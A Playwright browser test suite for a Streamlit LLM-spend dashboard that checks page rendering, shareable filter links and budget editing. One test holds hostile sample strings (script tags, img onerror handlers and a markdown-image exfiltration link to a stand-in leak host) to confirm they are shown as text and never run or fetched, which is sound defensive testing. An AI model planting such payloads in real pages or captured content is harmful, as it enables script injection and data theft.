"""The dashboard in a real headless browser (Debian chromium driven by Playwright).

One ``streamlit run`` server (started the way ``turnledger dashboard`` starts
it) serves a ledger holding the sample traces plus a hostile run whose captured
prompt, tool result and agent name carry script tags, ``onerror`` handlers and
markdown-image exfiltration. Every page is opened, checked for exceptions, key
numbers and charts, and photographed into ``test-output/screenshots/``.
"""

from __future__ import annotations

import socket
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from collector.cli.dashboard import start_dashboard
from collector.otlp import read_file
from dashboard.ui import count, pct, usd
from ledger import queries as q
from ledger.content import load_turn
from ledger.store import open_ledger
from ledger.turn_diff import payload_json

from .conftest import FIVE_TURN, HOSTILE, SAMPLES, wait_healthy
from .scenarios import EXFIL_HOST

CHROMIUM = Path("/usr/bin/chromium")
HANG_MS = 120_000  # a hang guard for every browser wait, never a figure: a loaded machine is slow, not broken
SHOTS = Path(__file__).resolve().parents[2] / "test-output" / "screenshots"
ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
        "--disable-component-update", "--disable-sync"]  # fmt: skip

pytestmark = pytest.mark.skipif(
    not CHROMIUM.exists(),
    reason="Debian chromium is not installed at /usr/bin/chromium (`make test` installs it; "
    "or `apt-get install -y chromium`). Never a downloaded browser.",
)


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@contextmanager
def _dashboard(db: Path) -> Iterator[str]:
    """A dashboard on ``db``, started as `turnledger dashboard` and `up` start it; its URL."""
    port = _free_port()
    proc = start_dashboard(db=db, port=port)
    url = f"http://127.0.0.1:{port}"
    try:
        wait_healthy(url, proc)
        yield url
    finally:
        proc.terminate()
        try:
            proc.wait(timeout=15)
        except Exception:
            proc.kill()


@pytest.fixture(scope="module")
def base_url(extended_db: Path) -> Iterator[str]:
    with _dashboard(extended_db) as url:
        yield url


@pytest.fixture(scope="module")
def make_run_url(make_run_db: Path) -> Iterator[str]:
    """A second dashboard, on what `make run` loads (the jobs' journeys are walked there)."""
    with _dashboard(make_run_db) as url:
        yield url


@pytest.fixture(scope="module")
def browser_page(base_url: str) -> Iterator[tuple[Any, dict[str, list[Any]]]]:
    from playwright.sync_api import sync_playwright

    seen: dict[str, list[Any]] = {"requests": [], "dialogs": [], "errors": []}
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=ARGS)
        context = browser.new_context(viewport={"width": 1500, "height": 1000})
        context.on("request", lambda r: seen["requests"].append(r.url))
        page = context.new_page()
        page.on("dialog", lambda d: (seen["dialogs"].append(d.message), d.dismiss()))
        page.on("pageerror", lambda e: seen["errors"].append(str(e)))
        yield page, seen
        context.close()
        browser.close()


OVERVIEW_CHARTS = 7  # spend over time, cost per run, per model, call site, tenant, agent, stop causes


def _settle(page: Any, *texts: str, charts: int = 0) -> None:
    """Wait until the script run finished, the texts are on the page and the charts are drawn."""
    page.wait_for_selector("[data-testid='stAppViewContainer']")
    for text in texts:
        page.get_by_text(text, exact=False).first.wait_for(timeout=HANG_MS)
    if charts:
        page.wait_for_function(
            f"document.querySelectorAll('.js-plotly-plot .main-svg').length >= {charts}", timeout=HANG_MS
        )
    page.wait_for_function("!document.querySelector('[data-testid=\"stStatusWidget\"]')", timeout=HANG_MS)
    page.wait_for_timeout(300)


def _shown(page: Any, *texts: str) -> None:
    """Wait until each text is on the page whole. A table draws its cells on a canvas and fills a hidden
    copy of them for screen readers after the script run ends: a cell is waited for in that copy
    (attached, never visible), not counted at once."""
    for text in texts:
        page.get_by_text(text, exact=True).first.wait_for(state="attached", timeout=HANG_MS)


def _shoot(page: Any, name: str) -> None:
    """A screenshot of the whole page (Streamlit scrolls inside its main block, so grow the viewport)."""
    SHOTS.mkdir(parents=True, exist_ok=True)
    height = page.evaluate("document.querySelector('[data-testid=\"stMain\"]').scrollHeight")
    page.set_viewport_size({"width": 1500, "height": min(max(1000, height + 40), 7000)})
    page.wait_for_timeout(400)
    page.screenshot(path=str(SHOTS / f"{name}.png"))
    page.set_viewport_size({"width": 1500, "height": 1000})


def _check(page: Any, *, charts: int) -> None:
    assert page.locator("[data-testid='stException']").count() == 0, page.locator(
        "[data-testid='stException']"
    ).first.inner_text()
    assert page.locator(".js-plotly-plot").count() == charts


def _open(page: Any, title: str) -> None:
    """Go to a page through the sidebar navigation (same session, no reload)."""
    page.get_by_test_id("stSidebarNav").get_by_role("link", name=title, exact=True).click()


def _find_run(page: Any, trace_id: str) -> None:
    box = page.get_by_role("textbox", name="Trace id (or its first characters)")
    box.fill(trace_id)
    box.press("Enter")


def test_every_page_renders_its_numbers_and_charts(base_url, browser_page, extended_db, rows):
    page, seen = browser_page
    cost = rows(extended_db, q.cost_per_run()).to_dict("records")[0]
    loops = rows(extended_db, q.loop_spend()).to_dict("records")[0]
    typical = rows(extended_db, q.typical_run()).to_dict("records")[0]

    # First request to a fresh server: a deep link, which must go through the app's navigation.
    page.goto(f"{base_url}/long_tail")
    tail = rows(extended_db, q.long_tail(limit=20))
    expensive = int((tail["times_median"] > 1).sum())  # runs at or below the median are not the tail
    _settle(page, f"The {expensive} most expensive runs", pct(typical["share_of_spend_from_p95"]), charts=2)
    links = page.get_by_test_id("stSidebarNav").get_by_role("link").all_inner_texts()
    assert [text.split("\n")[-1] for text in links] == [
        "Spend overview", "Long tail", "Run explorer", "Guards", "Budgets & alerts", "Models & prices", "Health",
        "Quality", "Review", "Compare versions",
    ]  # fmt: skip
    _check(page, charts=2)
    _shoot(page, "2-long-tail")

    _open(page, "Spend overview")
    _settle(page, "Where the money goes", usd(cost["total_usd"]), charts=OVERVIEW_CHARTS)
    for text in (
        count(cost["runs"]),
        usd(cost["median_usd"]),
        usd(cost["p95_usd"]),
        "broken",
        "Spend per model, split by price term",
    ):
        _shown(page, text)
    _check(page, charts=OVERVIEW_CHARTS)
    _shoot(page, "1-spend-overview")

    _open(page, "Run explorer")
    _settle(page, "Find a run")
    _find_run(page, FIVE_TURN)
    _settle(page, "Exact context of a turn", "76.5%", "how do I rotate an API key", charts=1)
    _shown(page, "$0.0997", "healthy")
    assert page.get_by_text("kept turn 4's prefix byte-for-byte", exact=False).count() == 1
    assert f"trace={FIVE_TURN}" in page.url  # the trace id is in the URL: a run can be linked to
    _check(page, charts=1)
    _shoot(page, "3-run-explorer")

    _open(page, "Guards")
    _settle(page, "Loop-detector trips per hour", usd(loops["loop_usd"]), charts=2)
    _check(page, charts=2)
    _shoot(page, "4-guards")

    _open(page, "Budgets & alerts")
    _settle(page, "No budgets yet", "Budget events recorded on runs")
    _check(page, charts=0)
    _shoot(page, "5-budgets")

    _open(page, "Models & prices")
    _settle(page, "1 model(s) have no price", "Prices applied to stored charges")
    _check(page, charts=0)
    _shoot(page, "6-models")

    # The sidebar drives the page in the real app (AppTest re-runs only the page script).
    _open(page, "Spend overview")
    _settle(page, "Where the money goes", charts=OVERVIEW_CHARTS)
    page.get_by_test_id("stSidebar").get_by_role("button", name="Refresh", exact=True).click()
    _settle(page, usd(cost["total_usd"]), charts=OVERVIEW_CHARTS)
    _pick(page, "Tenant", "globex")
    globex = rows(extended_db, q.cost_per_run(q.Filters(tenant="globex"))).to_dict("records")[0]
    _settle(page, usd(globex["total_usd"]), charts=OVERVIEW_CHARTS)
    assert page.get_by_test_id("stSidebar").get_by_role("combobox", name="Tenant", exact=True).input_value() == "globex"
    # The filter is in the address: the copied link reopens the same view in a new session.
    assert "tenant=globex" in page.url
    shared = page.context.new_page()
    shared.goto(page.url)
    _settle(shared, usd(globex["total_usd"]), charts=OVERVIEW_CHARTS)
    assert (
        shared.get_by_test_id("stSidebar").get_by_role("combobox", name="Tenant", exact=True).input_value() == "globex"
    )
    shared.close()

    # Auto-refresh re-reads the ledger on its own: the "Last refreshed" time moves without a click.
    sidebar = page.get_by_test_id("stSidebar")
    stamp = sidebar.get_by_text("Last refreshed", exact=False)
    before = stamp.inner_text()
    sidebar.get_by_text("Auto-refresh", exact=True).click()
    sidebar.get_by_text("Every (seconds)").wait_for()
    page.wait_for_function(
        "t => [...document.querySelectorAll('[data-testid=stSidebar] p')].some("
        "p => p.innerText.startsWith('Last refreshed') && p.innerText !== t)",
        arg=before,
        timeout=HANG_MS,
    )
    assert page.locator("[data-testid='stException']").count() == 0
    assert not seen["errors"], seen["errors"]


def test_untrusted_content_is_shown_as_text_never_run_or_fetched(base_url, browser_page):
    """The hostile run's strings, on the page that shows them most directly.

    The request and dialog recorders run for the whole module: the page tour
    above (tables, chart labels and filter lists holding the hostile agent
    name) is covered by the same assertions.
    """
    page, seen = browser_page
    page.goto(f"{base_url}/run_explorer?trace={HOSTILE}")  # a fresh session: no filters left over
    _settle(page, "Exact context of a turn", "window.__pwned=1;alert(1)")
    code = page.locator("[data-testid='stCode']", has_text="window.__pwned=1").first
    text = code.inner_text()
    # Shown verbatim as text: the tags, the handler and the markdown image are all there as characters.
    assert "<script>window.__pwned=1;alert(1)</script>" in text
    assert '<img src=x onerror=\\"window.__pwned=2;alert(2)\\">' in text
    assert f"![x](http://{EXFIL_HOST}/leak?d=secret)" in text
    # The agent name with an <img onerror> is in the run picker and the sidebar filter: open the list.
    assert "evil<img src=x onerror=" in page.get_by_role("combobox", name="Run", exact=True).input_value()
    page.get_by_test_id("stSidebar").get_by_role("combobox", name="Agent", exact=True).click()
    page.keyboard.type("evil")  # the list is long: narrow it to the hostile name
    page.get_by_role("option", name='evil<img src=x onerror="window.__pwned=4">', exact=True).wait_for()
    page.keyboard.press("Escape")
    page.get_by_text("Full diff of the two payloads").click()
    page.wait_for_timeout(1000)
    _check(page, charts=1)
    _shoot(page, "7-untrusted-content")

    assert page.evaluate("typeof window.__pwned") == "undefined"
    assert seen["dialogs"] == []
    leaked = [u for u in seen["requests"] if EXFIL_HOST in u or "/leak" in u]
    assert leaked == []
    assert any("/_stcore/" in u or "/static/" in u for u in seen["requests"]), "requests are being recorded"


def test_the_overview_opens_from_its_own_url(base_url, browser_page, extended_db, rows):
    """``/overview`` (the page's name in links people share) opens the overview, not "Page not found"."""
    page, seen = browser_page
    cost = rows(extended_db, q.cost_per_run()).to_dict("records")[0]
    page.goto(f"{base_url}/overview")  # a new session, as a shared link is
    _settle(page, "Where the money goes", usd(cost["total_usd"]), charts=OVERVIEW_CHARTS)
    assert page.get_by_text("Page not found", exact=False).count() == 0
    _check(page, charts=OVERVIEW_CHARTS)
    assert not seen["errors"], seen["errors"]


def test_a_copied_link_reopens_the_filtered_view_in_a_new_browser_context(base_url, browser_page, extended_db, rows):
    """Nothing of the first session (cookies, storage, Streamlit session) reaches the second: only the URL."""
    page, _ = browser_page
    page.goto(f"{base_url}/guards")
    _settle(page, "Loop-detector trips per hour", charts=2)
    _pick(page, "Tenant", "globex")
    _pick(page, "Time range (UTC, by run start)", "Custom dates")
    page.wait_for_function("location.search.includes('range=custom')", timeout=HANG_MS)
    _settle(page, "Guards")
    link = page.url
    assert "/guards?" in link and "tenant=globex" in link and "from=" in link and "to=" in link

    other = page.context.browser.new_context(viewport={"width": 1500, "height": 1000})
    try:
        fresh = other.new_page()
        fresh.goto(link)
        _settle(fresh, "Guards")
        sidebar = fresh.get_by_test_id("stSidebar")
        assert sidebar.get_by_role("combobox", name="Tenant", exact=True).input_value() == "globex"
        assert sidebar.get_by_role("combobox", name="Time range (UTC, by run start)").input_value() == "Custom dates"
        assert fresh.url == link  # the same view, and a link to it again
        assert fresh.locator("[data-testid='stException']").count() == 0
    finally:
        other.close()


def test_a_filter_that_matches_nothing_shows_the_message(base_url, browser_page):
    page, _ = browser_page
    page.goto(f"{base_url}/long_tail?range=custom&from=2020-01-01&to=2020-01-02")
    _settle(page, "No runs match the filters")
    assert page.get_by_text("Widen the time range or reset the filters", exact=False).count() == 1
    _check(page, charts=0)


@pytest.fixture
def budget_dashboard(sample_db: Path, tmp_path: Path) -> Iterator[tuple[str, Path]]:
    """A dashboard of its own on a copy of the samples: this test writes rules into its ledger."""
    import shutil

    db = tmp_path / "budgets.duckdb"
    shutil.copy(sample_db, db)
    with _dashboard(db) as url:
        yield url, db


def _budget_list(db: Path) -> list[dict[str, Any]]:
    """What `turnledger budget list --json` prints for the dashboard's ledger."""
    import json
    import subprocess
    import sys

    out = subprocess.run(
        [sys.executable, "-m", "collector.cli", "budget", "list", "--json", "--db", str(db)],
        capture_output=True, text=True, check=True, timeout=120,
    )  # fmt: skip
    rows: list[dict[str, Any]] = json.loads(out.stdout)
    return rows


def test_a_budget_is_added_edited_and_removed_in_the_ui(budget_dashboard, browser_page):
    url, db = budget_dashboard
    page, seen = browser_page
    page.goto(f"{url}/budgets")
    _settle(page, "No budgets yet", "Manage rules")

    page.get_by_label("Name", exact=True).fill("ui-daily")
    page.get_by_label("Limit (USD)", exact=True).fill("5")
    page.get_by_label("Limit (USD)", exact=True).press("Tab")
    page.get_by_role("button", name="Add budget").click()
    _settle(page, "Budget added.", "Budgets in force")
    _shown(page, "$5.00")  # the limit, in USD
    (row,) = _budget_list(db)
    assert (row["name"], row["limit"], row["level"], row["window"]) == ("ui-daily", "$5.00", "ok", "day")

    page.get_by_role("tab", name="Edit or remove a rule").click()
    limit = page.get_by_label("New limit (USD)", exact=True)
    limit.fill("0.5")
    limit.press("Tab")
    page.get_by_text("Enabled", exact=True).click()  # switch it off
    page.get_by_role("button", name="Save changes").click()
    _settle(page, "Budget edited.")
    (row,) = _budget_list(db)
    assert (row["name"], row["limit"], row["level"]) == ("ui-daily", "$0.50", "disabled")
    _shown(page, "disabled")

    page.get_by_role("tab", name="Edit or remove a rule").click()
    page.get_by_text("Yes, remove this rule", exact=True).click()
    page.get_by_role("button", name="Remove rule").click()
    _settle(page, "Budget removed.", "No budgets yet")
    assert _budget_list(db) == []
    _check(page, charts=0)
    assert not seen["errors"], seen["errors"]


def _pick(page: Any, label: str, option: str) -> None:
    """Choose ``option`` in the selectbox named ``label``: typed (long lists are virtualised), then Enter
    (a click on the option raced the list re-rendering as it filters, on a loaded machine)."""
    from playwright.sync_api import TimeoutError as PlaywrightTimeout
    from playwright.sync_api import expect

    box = page.get_by_role("combobox", name=label, exact=True)
    for attempt in range(3):  # a click while the page re-runs (after a refresh) can be lost: open it again
        box.click()
        page.keyboard.type(option)
        try:
            page.get_by_role("option", name=option, exact=True).wait_for(timeout=HANG_MS)
            break
        except PlaywrightTimeout:
            if attempt == 2:
                raise
            page.keyboard.press("Escape")
    page.keyboard.press("Enter")
    expect(box).to_have_value(option, timeout=HANG_MS)


def _code_blocks(page: Any) -> list[str]:
    """The text of every code block shown (not folded away), whitespace collapsed."""
    shown = page.locator("[data-testid='stCode']:visible")
    shown.first.wait_for()
    return [" ".join(t.split()) for t in shown.all_text_contents()]


def test_from_the_long_tail_to_the_request_and_response_of_the_most_expensive_turn(
    make_run_url, browser_page, make_run_db, rows
):
    """Job 1, debug a bad run: the long tail's top run, opened by its link, shows the exact request
    and the exact answer of its most expensive model call."""
    page, _ = browser_page
    top = rows(make_run_db, q.long_tail(q.NO_FILTERS, limit=1)).iloc[0]
    turns = rows(make_run_db, q.run_turns(top["trace_id"])).to_dict("records")
    costliest = max(turns, key=lambda t: t["usd"])
    page.goto(f"{make_run_url}/long_tail")
    _settle(page, "most expensive runs", charts=2)
    link = page.locator(f"a[href*='run_explorer?trace={top['trace_id']}']")
    href = link.first.get_attribute("href") if link.count() else f"./run_explorer?trace={top['trace_id']}"
    assert href.endswith(f"run_explorer?trace={top['trace_id']}")  # where the table's "open" link goes
    page.goto(f"{make_run_url}/{href.removeprefix('./')}")
    _settle(page, "Exact context of a turn")
    _pick(page, "Turn", str(costliest["turn"]))
    _settle(page, f"What the model answered on turn {costliest['turn']}")
    con = open_ledger(make_run_db, read_only=True)
    try:
        captured = load_turn(con, top["trace_id"], costliest["span_id"])
    finally:
        con.close()
    assert captured is not None and captured.request is not None and captured.response is not None
    blocks = _code_blocks(page)
    # The request in its provider's wire format (ours recorded the body as sent: the same) and the
    # answer exactly as stored, each in its own code block.
    assert captured.wire is not None and captured.wire.body == captured.request
    assert " ".join(payload_json(captured.wire.body).split()) in blocks
    assert " ".join(payload_json(captured.response).split()) in blocks
    assert "parcel 12345" in payload_json(captured.response)
    _check(page, charts=page.locator(".js-plotly-plot").count())
    _shoot(page, "8-most-expensive-turn")


def test_a_cache_break_names_its_invalidator_and_a_short_prompt_says_below_minimum(make_run_url, browser_page):
    """Job 1 again: the clock-in-the-prompt run says which block broke the cache; the
    short-prompt run says its prefix is below the model's minimum (with both sizes)."""
    page, _ = browser_page
    clock = read_file(SAMPLES / "harness" / "clock_in_system_prompt.json")[0].trace_id
    short = read_file(SAMPLES / "harness" / "below_minimum.json")[0].trace_id
    page.goto(f"{make_run_url}/run_explorer?trace={clock}")
    _settle(page, "The prompt cache broke on turn", "First change inside the stable prefix")
    assert any("system[0].text" in block for block in _code_blocks(page)), _code_blocks(page)
    _shoot(page, "9-cache-break")
    page.goto(f"{make_run_url}/run_explorer?trace={short}")
    _settle(page, "This run never used the prompt cache", "below the model's minimum")
    _check(page, charts=page.locator(".js-plotly-plot").count())
    _shoot(page, "10-below-minimum")
